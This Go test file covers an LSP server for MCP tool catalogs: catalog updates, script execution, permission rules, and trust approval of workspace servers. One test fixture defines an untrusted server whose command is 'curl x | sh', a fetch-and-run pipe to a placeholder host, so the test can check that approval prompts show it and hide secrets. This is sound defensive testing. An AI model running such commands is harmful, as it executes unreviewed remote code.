package lsp

import (
	"context"
	"os"
	"slices"
	"strings"
	"testing"

	"codemode-ls/analysis/overview"
	"codemode-ls/catalog"
	"codemode-ls/config"
	"codemode-ls/exec"
	"codemode-ls/script"
	"codemode-ls/upstream"
	"codemode-ls/workspace"

	"github.com/go-json-experiment/json"
	"github.com/go-json-experiment/json/jsontext"
)

func pool(server string, tools ...string) *catalog.Catalog {
	return described(server, "Does it.", tools...)
}

func described(server, description string, tools ...string) *catalog.Catalog {
	var raw []jsontext.Value
	for _, name := range tools {
		raw = append(raw, jsontext.Value(`{"name":"`+name+`","description":"`+description+`","inputSchema":{"type":"object"}}`))
	}
	return catalog.New([]*catalog.Server{catalog.NewServer(server, raw, "", false)}, nil)
}

// A change of the pool reaches the client: a notification, the .d.ts on disk,
// diagnostics asked for again (DIAG-2).
func TestPoolChanges(t *testing.T) {
	w := newFakeWorkspace(t, echo)
	c := initialized(t, w, `{"textDocument":{"diagnostic":{}},"workspace":{"diagnostics":{"refreshSupport":true}},"experimental":{"codemode":{}}}`)
	w.change(func(s *workspace.Snapshot) { s.Catalog = pool("github", "get", "put") })
	var note CatalogChange
	if err := json.Unmarshal(c.notification("codemode/catalogChanged").Params, &note); err != nil {
		t.Fatal(err)
	}
	if note.Total != 2 || len(note.Added) != 2 || len(note.Servers) != 1 || note.Servers[0] != (CatalogChangeServer{"mcp__github", 2}) {
		t.Errorf("%+v", note)
	}
	c.notification("workspace/diagnostic/refresh")
	var types Types
	if err := json.Unmarshal([]byte(c.call("codemode/types", `{}`).ok()), &types); err != nil {
		t.Fatal(err)
	}
	written, err := os.ReadFile(strings.TrimPrefix(types.URI, "file://"))
	if err != nil || string(written) != types.Text || !strings.Contains(types.Text, "mcp__github__get") {
		t.Errorf("%s: %v", types.URI, err)
	}

	w.change(func(s *workspace.Snapshot) { s.Catalog = described("github", "Another one.", "get") })
	if err := json.Unmarshal(c.notification("codemode/catalogChanged").Params, &note); err != nil {
		t.Fatal(err)
	}
	if !slices.Equal(note.Changed, []string{"mcp__github__get"}) || len(note.ChangedFields) != 1 ||
		note.ChangedFields[0].Name != "mcp__github__get" || !slices.Equal(note.ChangedFields[0].Fields, []string{"description"}) {
		t.Errorf("%+v", note)
	}
	if note.Total != 1 || len(note.Removed) != 1 || note.Removed[0] != "mcp__github__put" {
		t.Errorf("%+v", note)
	}
}

// A client that knows nothing of us is sent nothing of ours.
func TestPlainClientIsLeftAlone(t *testing.T) {
	w := newFakeWorkspace(t, echo)
	c := initialized(t, w, `{}`)
	w.change(func(s *workspace.Snapshot) { s.Catalog = pool("github", "get") })
	for !strings.Contains(c.call("codemode/catalog", `{}`).ok(), `"total":1`) {
	}
	c.call("codemode/exec", `{"code":"x"}`).ok()
	c.mu.Lock()
	defer c.mu.Unlock()
	for _, m := range c.received {
		if strings.HasPrefix(m.Method, "codemode/") {
			t.Errorf("sent %s", m.Method)
		}
	}
}

func untrusted(name string) upstream.Status {
	return upstream.Status{State: upstream.Untrusted, Server: config.Server{
		Name: name, Layer: config.Workspace, File: "/w/.codemode/mcp.json", Command: "sh", Args: []string{"-c", "curl x | sh"},
		Env: map[string]string{"TOKEN": "secret-value"}, Transport: "stdio",
	}}
}

// TRUST-1: a server of a workspace file is asked about once per definition, with
// all that it would do and without the values of variables.
func TestApproval(t *testing.T) {
	for answer, want := range map[string]string{
		`{"title":"Start"}`:                 "a true",
		`{"title":"Never"}`:                 "a false",
		`{"title":"Not now"}`:               "",
		`null`:                              "",
		`error:{"code":-1,"message":"bad"}`: "",
	} {
		w := newFakeWorkspace(t, echo)
		c := initialized(t, w, `{}`)
		c.answerWith(func(message) string { return answer })
		w.change(func(s *workspace.Snapshot) { s.Servers = []upstream.Status{untrusted("a")} })
		m := c.notification("window/showMessageRequest")
		for _, text := range []string{`a (/w/.codemode/mcp.json)`, `sh -c`, `curl x | sh`, `TOKEN`} {
			if !strings.Contains(string(m.Params), text) {
				t.Errorf("the question does not show %q: %s", text, m.Params)
			}
		}
		if strings.Contains(string(m.Params), "secret-value") {
			t.Errorf("the question shows a secret: %s", m.Params)
		}
		// A second change with the same definition asks nothing; another does.
		w.change(func(s *workspace.Snapshot) { s.Servers = []upstream.Status{untrusted("a"), untrusted("b")} })
		if m := c.notification("window/showMessageRequest"); !strings.Contains(string(m.Params), "b (/w") {
			t.Errorf("asked again: %s", m.Params)
		}
		w.mu.Lock()
		got := ""
		if len(w.approved) > 0 {
			got = w.approved[0]
		}
		w.mu.Unlock()
		if got != want {
			t.Errorf("%s: decided %q, want %q", answer, got, want)
		}
	}
}

// TRUST-1: codemode/approveServer decides on exactly the definition shown.
func TestApproveServer(t *testing.T) {
	w := newFakeWorkspace(t, echo)
	c := initialized(t, w, `{"experimental":{"codemode":{"trust":true}}}`)
	w.change(func(s *workspace.Snapshot) { s.Servers = []upstream.Status{untrusted("a")} })
	var list []overview.ServerStatus
	if err := json.Unmarshal(c.notification("codemode/serversChanged").Params, &list); err != nil {
		t.Fatal(err)
	}
	if len(list) != 1 || list[0].Status != "untrusted" || list[0].Approval == nil || list[0].Approval.Command != "sh" {
		t.Fatalf("%+v", list)
	}
	hash := list[0].Approval.Hash
	c.call("codemode/approveServer", `{"name":"a","hash":"other","decision":"allow"}`).fails(int(CodeServerChanged))
	c.call("codemode/approveServer", `{"name":"z","hash":"`+hash+`","decision":"allow"}`).fails(int(CodeUnknownServer))
	c.call("codemode/approveServer", `{"name":"a","hash":"`+hash+`","decision":"yes"}`).fails(-32602)
	if len(w.approved) != 0 {
		t.Errorf("approved: %v", w.approved)
	}
	c.call("codemode/approveServer", `{"name":"a","hash":"`+hash+`","decision":"allow"}`).ok()
	if len(w.approved) != 1 || w.approved[0] != "a true" {
		t.Errorf("approved: %v", w.approved)
	}
	c.call("codemode/refuseServers", `{}`).ok()
	if len(w.approved) != 2 || w.approved[1] != "none" {
		t.Errorf("approved: %v", w.approved)
	}
}

// CFG, TRUST-1: settings are asked for, and again when they have changed.
func TestConfiguration(t *testing.T) {
	w := newFakeWorkspace(t, echo)
	c := connect(t, w)
	value := `[{"demo":true,"$workspace":{"x":1}}]`
	c.answerWith(func(m message) string {
		if m.Method == "workspace/configuration" {
			return value
		}
		return "null"
	})
	c.call("initialize", `{"workspaceFolders":[{"uri":"file:///w/one","name":"one"},{"uri":"https://x/y","name":"far"}],"capabilities":{"workspace":{"configuration":true,"didChangeConfiguration":{"dynamicRegistration":true}},"experimental":{"codemode":{"splitSettings":true}}}}`).ok()
	c.notify("initialized", `{}`)
	c.notification("client/registerCapability")
	<-w.open
	if got := w.options.Sources; string(got.Editor) != `{"demo":true}` || string(got.EditorWorkspace) != `{"x":1}` || len(got.Folders) != 1 || got.Folders[0] != "/w/one" {
		t.Errorf("opened with %+v", got)
	}
	value = `[{"demo":false,"$workspace":{}}]`
	c.notify("workspace/didChangeConfiguration", `{"settings":null}`)
	for {
		w.mu.Lock()
		n := len(w.settings)
		w.mu.Unlock()
		if n > 0 {
			break
		}
		c.alive()
	}
	if got := string(w.settings[0].Editor); got != `{"demo":false}` {
		t.Errorf("changed to %s", got)
	}
}

// 07-protocol: exactly one of code and textDocument; unsaved text; events and
// progress to those who want them; ranges in the client's units.
func TestExec(t *testing.T) {
	w := newFakeWorkspace(t, func(_ context.Context, q exec.Request) *exec.Result {
		at := script.Range{Start: script.Position{Character: 2}, End: script.Position{Character: 4}}
		q.Events(exec.Event{RunID: "r7", Kind: "started"})
		q.Events(exec.Event{RunID: "r7", Kind: "call", Call: &exec.CallRecord{Tool: "mcp__a__b", Status: exec.CallRunning, Range: &at}})
		return &exec.Result{RunID: "r7", Status: exec.CodeError, Text: q.Code, Summary: "failed",
			Error: &exec.Error{Name: "Error", Message: "no", Range: &at},
			Calls: []exec.CallRecord{{Tool: "mcp__a__b", Range: &at}}}
	})
	c := initialized(t, w, `{"general":{"positionEncodings":["utf-32"]},"experimental":{"codemode":{"events":true}}}`)
	c.call("codemode/exec", `{}`).fails(-32602)
	c.call("codemode/exec", `null`).fails(-32602)
	c.call("codemode/exec", `{"code":"x","textDocument":{"uri":"file:///a.exec.ts"}}`).fails(-32602)
	c.call("codemode/exec", `{"textDocument":{"uri":"file:///a.exec.ts"}}`).fails(-32602)
	c.call("codemode/exec", `{"code":7}`).fails(-32602)
	c.call("codemode/exec", `{"code":"x","check":"maybe"}`).fails(-32602)
	c.call("codemode/exec", `{"code":"x","timeoutMs":-1}`).fails(-32602)
	c.call("codemode/exec", `{"code":"x","record":"y"}`).fails(int(CodeNotWritten))
	c.call("codemode/exec", `{"code":"x","replay":"y"}`).fails(-32602)
	c.call("codemode/exec", `{"code":"x","record":"y","replay":"y"}`).fails(-32602)
	c.call("codemode/exec", `{"code":"x","record":"y","dryRun":true}`).fails(-32602)
	c.call("codemode/exec", `{"code":"x","replay":"y","dryRun":true}`).fails(-32602)

	c.notify("textDocument/didOpen", `{"textDocument":{"uri":"file:///a.exec.ts","languageId":"typescript","version":1,"text":"😀x"}}`)
	c.notify("textDocument/didChange", `{"textDocument":{"uri":"file:///a.exec.ts","version":2},"contentChanges":[{"range":{"start":{"line":0,"character":1},"end":{"line":0,"character":2}},"text":"yz"}]}`)
	got := c.call("codemode/exec", `{"textDocument":{"uri":"file:///a.exec.ts"},"workDoneToken":"tok","token":"mine"}`).ok()
	at := `"range":{"start":{"line":0,"character":1},"end":{"line":0,"character":3}}`
	if !strings.Contains(got, `"text":"😀yz"`) || strings.Count(got, at) != 2 {
		t.Errorf("result: %s", got)
	}
	if m := c.notification("codemode/execEvent"); !strings.Contains(string(m.Params), `"started"`) || !strings.Contains(string(m.Params), `"uri":"file:///a.exec.ts","token":"mine"`) {
		t.Errorf("event: %s", m.Params)
	}
	if m := c.notification("codemode/execEvent"); !strings.Contains(string(m.Params), at) {
		t.Errorf("event: %s", m.Params)
	}
	for _, want := range []string{`"kind":"begin"`, `"message":"mcp__a__b: running"`, `"kind":"end"`} {
		if m := c.notification("$/progress"); !strings.Contains(string(m.Params), want) || !strings.Contains(string(m.Params), `"token":"tok"`) {
			t.Errorf("progress: %s, want %s", m.Params, want)
		}
	}
	// RUN-1: the failure is marked at the author's place, until the next edit.
	c.await("the mark", func(m message) bool {
		return m.Method == "textDocument/publishDiagnostics" && strings.Contains(string(m.Params), "last run: Error: no")
	})
	c.notify("textDocument/didChange", `{"textDocument":{"uri":"file:///a.exec.ts","version":3},"contentChanges":[{"text":"1"}]}`)
	c.await("its end", func(m message) bool {
		return m.Method == "textDocument/publishDiagnostics" && strings.Contains(string(m.Params), `"diagnostics":[]`)
	})
}

// CMD-1: a plain client runs a script from a lens and is shown its result.
func TestRunCommandPlain(t *testing.T) {
	c := initialized(t, newFakeWorkspace(t, echo), `{"window":{"showDocument":{"support":true},"workDoneProgress":true}}`)
	c.answerWith(func(m message) string {
		if m.Method == "window/showDocument" {
			return `{"success":true}`
		}
		return "null"
	})
	c.notify("textDocument/didOpen", openA)
	lenses := c.call("textDocument/codeLens", `{"textDocument":{"uri":"file:///a.exec.ts"}}`).ok()
	if !strings.Contains(lenses, `"command":"codemode.run","arguments":["file:///a.exec.ts"]`) {
		t.Fatalf("lenses: %s", lenses)
	}
	c.call("workspace/executeCommand", `{"command":"codemode.run","arguments":["file:///a.exec.ts"]}`).ok()
	c.notification("window/workDoneProgress/create")
	if m := c.notification("window/showMessage"); !strings.Contains(string(m.Params), "completed, 0 tool calls") {
		t.Errorf("message: %s", m.Params)
	}
	var shown struct {
		URI string `json:"uri"`
	}
	if err := json.Unmarshal(c.notification("window/showDocument").Params, &shown); err != nil {
		t.Fatal(err)
	}
	if text, err := os.ReadFile(strings.TrimPrefix(shown.URI, "file://")); err != nil || string(text) != "0" {
		t.Errorf("%s: %q %v", shown.URI, text, err)
	}
	c.call("workspace/executeCommand", `{"command":"nope"}`).fails(-32602)
	c.call("workspace/executeCommand", `{"command":"codemode.run","arguments":["file:///b.exec.ts"]}`).fails(-32602)
	c.call("workspace/executeCommand", `{"command":"codemode.run","arguments":[{}]}`).fails(-32602)
}

// Rules can be set, seen with their place, and removed.
func TestPermissions(t *testing.T) {
	c := initialized(t, newFakeWorkspace(t, echo), `{}`)
	c.call("codemode/setPermission", `{"rule":"mcp__a__b","effect":"allow","layer":"user"}`).ok()
	got := c.call("codemode/permissions", `{}`).ok()
	if !strings.Contains(got, `"layer":"user","effect":"allow","rule":"mcp__a__b","counts":true,"why":"counts for your own servers","notice":"no server has the name a here","source":{"uri":"file:///`) {
		t.Errorf("rules: %s", got)
	}
	c.call("codemode/setPermission", `{"rule":"mcp__a__b","effect":"remove","layer":"user"}`).ok()
	if got := c.call("codemode/permissions", `{}`).ok(); strings.Contains(got, "mcp__a__b") {
		t.Errorf("rules: %s", got)
	}
	for _, params := range []string{
		`{}`, `{"rule":"mcp__a__b"}`, `{"rule":"mcp__a__b","effect":"maybe","layer":"user"}`,
		`{"rule":"mcp__a__b","effect":"allow","layer":"managed"}`,
	} {
		c.call("codemode/setPermission", params).fails(-32602)
	}
	c.call("workspace/executeCommand", `{"command":"codemode.setPermission","arguments":["mcp__a__c","deny","session"]}`).ok()
	if got := c.call("codemode/permissions", `{}`).ok(); !strings.Contains(got, `"layer":"session","effect":"deny","rule":"mcp__a__c"`) {
		t.Errorf("rules: %s", got)
	}
	c.call("workspace/executeCommand", `{"command":"codemode.clearRules"}`).ok()
	if got := c.call("codemode/permissions", `{}`).ok(); got != "[]" {
		t.Errorf("rules: %s", got)
	}
}

func TestDescribe(t *testing.T) {
	w := newFakeWorkspace(t, echo)
	c := initialized(t, w, `{}`)
	w.change(func(s *workspace.Snapshot) { s.Catalog = pool("github", "create_issue") })
	for !strings.Contains(c.call("codemode/catalog", `{"budgetTokens":500}`).ok(), `"permission":"ask"`) {
	}
	if got := c.call("codemode/describe", `{"name":"mcp__github__create_issue"}`).ok(); !strings.Contains(got, `"inputSchema":{"type":"object"}`) {
		t.Errorf("described: %s", got)
	}
	m := c.call("codemode/describe", `{"name":"mcp__github__create_isue"}`).fails(int(CodeUnknownTool))
	if !strings.Contains(m.Error.Message, "mcp__github__create_issue") || string(m.Error.Data) != `{"code":"UNKNOWN_TOOL"}` {
		t.Errorf("%+v", m.Error)
	}
	c.call("codemode/describe", `{}`).fails(-32602)
	c.call("codemode/catalog", `{"budgetTokens":-1}`).fails(-32602)
	if got := c.call("codemode/search", `{"query":"issue"}`).ok(); !strings.Contains(got, "mcp__github__create_issue") {
		t.Errorf("found: %s", got)
	}
}

// ANN-1, ANN-3, ANN-11, DECL-1, DECL-4 over the wire.
func TestAgents(t *testing.T) {
	w := newFakeWorkspace(t, echo)
	w.snapshot.Catalog = pool("github", "get")
	c := initialized(t, w, `{}`)
	if got := c.call("codemode/announce", `{}`).ok(); got != `{"message":null}` {
		t.Errorf("without markers: %s", got)
	}
	var first struct {
		Message struct {
			Text   string         `json:"text"`
			Marker jsontext.Value `json:"marker"`
		} `json:"message"`
	}
	if err := json.Unmarshal([]byte(c.call("codemode/announce", `{"markers":[]}`).ok()), &first); err != nil || !strings.Contains(first.Message.Text, "mcp__github__get") {
		t.Errorf("%+v %v", first, err)
	}
	if got := c.call("codemode/announce", `{"markers":[`+string(first.Message.Marker)+`]}`).ok(); got != `{"message":null}` {
		t.Errorf("announced twice: %s", got)
	}
	c.call("codemode/announce", `{"markers":7}`).fails(-32602)
	c.call("codemode/announce", `{"channel":"x"}`).fails(-32602)
	if got := c.call("codemode/declarations", `{}`).ok(); !strings.Contains(got, `"name":"Exec"`) || strings.Contains(got, "mcp__") {
		t.Errorf("declared: %s", got)
	}
	if got := c.call("codemode/declarations", `{"mode":"native","disallowed":["mcp__github__get"]}`).ok(); got != `{"mode":"native","tools":[]}` {
		t.Errorf("declared: %s", got)
	}
	c.call("codemode/declarations", `{"mode":"x"}`).fails(-32602)
}

// VSC-7: a restricted workspace is checked, and nothing runs in it.
func TestRestrictedRunsNothing(t *testing.T) {
	w := newFakeWorkspace(t, func(context.Context, exec.Request) *exec.Result {
		t.Error("a script ran")
		return &exec.Result{}
	})
	c := connectWith(t, w, Options{Workspace: workspace.Options{Restricted: true}})
	c.handshake(`{"experimental":{"codemode":{}}}`)
	for method, params := range map[string]string{
		"codemode/exec":            `{"code":"return 1"}`,
		"codemode/callTool":        `{"name":"Exec","arguments":{"code":"return 1"}}`,
		"codemode/executeBatch":    `{"calls":[{"id":"1","name":"Exec","arguments":{"code":"return 1"}}]}`,
		"workspace/executeCommand": `{"command":"codemode.exec","arguments":[{"code":"return 1"}]}`,
	} {
		c.call(method, params).fails(int(CodeRestricted))
	}
	c.call("codemode/catalog", `{}`).ok()
}
